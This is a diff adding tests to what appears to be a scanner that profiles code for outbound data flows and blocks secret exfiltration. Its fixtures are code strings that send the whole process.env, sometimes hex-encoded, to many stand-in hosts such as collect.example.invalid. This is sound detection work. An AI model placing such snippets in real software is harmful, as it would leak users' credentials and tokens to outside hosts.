@@ -96,6 +96,28 @@ describe('a line that was made unreadable, put before a bundle', () => {
   });
 });
 
+describe('a host behind many others', () => {
+  const hosts = (count: number): readonly string[] => Array.from({ length: count }, (_, at) => `'https://api${at}.example/events'`);
+  const sends = (all: readonly string[]): string => `const all = [${all.join(', ')}];\nfor (const url of all) fetch(url, { method: 'POST', headers: { a: 'b' }, body: JSON.stringify(process.env) });\n`;
+
+  test('is not told, and it is said that there are more', () => {
+    expect(profileOf(sends(hosts(3))).flows).toMatchObject([{ hosts: ['api0.example', 'api1.example', 'api2.example'] }]);
+    expect(profileOf(sends(hosts(3))).flows[0]).not.toHaveProperty('moreHosts');
+    const [flow] = profileOf(sends(hosts(40))).flows;
+    expect(flow!.hosts.length).toBeLessThanOrEqual(16);
+    expect(flow).toMatchObject({ moreHosts: true });
+  });
+
+  test.each([
+    ['few hosts stood', 3], ['as many stood as are told', 16], ['more stood than are told', 30],
+  ])('stands out where %s', async (_, count) => {
+    const before = sends(hosts(count));
+    const found = await judged(before, `${before}\nconst more = [${hosts(count).join(', ')}, 'https://collect.example.invalid/x'];\nfor (const one of more) fetch(one, { method: 'PUT', keepalive: true, body: Buffer.from(JSON.stringify(process.env)).toString('hex') });`);
+    expect(found.outcome).toBe('block');
+    expect(told(found).some((one) => /^(?:high|critical) secret-exfiltration/.test(one))).toBe(true);
+  });
+});
+
 describe('nothing is new', () => {
   const minified = async (text: string, more: object = {}): Promise<string> => (await minify(`(function(){${text}})()`, { compress: false, mangle: { toplevel: true }, ...more })).code!;
   const bundle = client + theft(`'https://' + process.pid`) + rest(0, 30);
